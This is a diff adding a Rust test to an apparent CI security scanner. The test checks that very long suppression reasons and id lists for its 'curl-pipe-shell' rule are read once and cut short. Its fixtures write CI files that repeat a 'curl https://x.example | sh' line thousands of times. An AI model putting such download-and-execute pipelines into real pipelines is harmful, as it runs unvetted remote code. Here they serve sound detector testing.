@@ -471,3 +471,51 @@ fn suppressed_findings_do_not_use_up_the_bound_of_the_others() {
         read_in_part(&assessment)
     );
 }
+
+/// A suppression comment naming 50,000 ids that are no rule's, then the rule, with a 50 KB
+/// reason, above a line of 2,000 downloads piped into a shell; and an entry of the
+/// configuration with a 50 KB reason for another file's 2,000. Each reason was copied whole
+/// into every finding it suppressed (2 GB at twice these sizes), and the ids searched in
+/// full for every finding.
+#[test]
+fn long_suppression_reasons_and_id_lists_are_read_once_and_cut() {
+    let repo = repository();
+    let ids: Vec<String> = (0..50_000).map(|i| format!("r{i}")).collect();
+    let reason = "because ".repeat(6_250);
+    let pipes = "curl https://x.example | sh && ".repeat(2_000);
+    write(
+        repo.path(),
+        ".gitlab-ci.yml",
+        format!(
+            "job:\n  script:\n    # shipready: ignore[{}, curl-pipe-shell] {reason}\n    - \"{pipes}true\"\n",
+            ids.join(",")
+        ),
+    );
+    write(
+        repo.path(),
+        "ci/other/.gitlab-ci.yml",
+        format!("job:\n  script:\n    - \"{pipes}true\"\n"),
+    );
+    write(
+        repo.path(),
+        ".shipready.toml",
+        format!(
+            "[[suppress]]\nid = \"curl-pipe-shell\"\npath = \"ci/**\"\nreason = \"{reason}\"\n"
+        ),
+    );
+
+    let assessment = assess_within(repo.path());
+
+    let cut = format!("{}...", &reason[..197]);
+    let suppressed: Vec<_> = (assessment.findings.iter())
+        .filter(|f| f.id == "curl-pipe-shell")
+        .map(|f| (f.location.path.as_str(), f.suppressed.clone()))
+        .collect();
+    let mut paths: Vec<&str> = suppressed.iter().map(|(path, _)| *path).collect();
+    paths.dedup();
+    assert_eq!(paths, [".gitlab-ci.yml", "ci/other/.gitlab-ci.yml"]);
+    for (path, suppression) in suppressed {
+        let suppression = suppression.unwrap_or_else(|| panic!("{path}: not suppressed"));
+        assert_eq!(suppression.reason, cut, "{path}");
+    }
+}
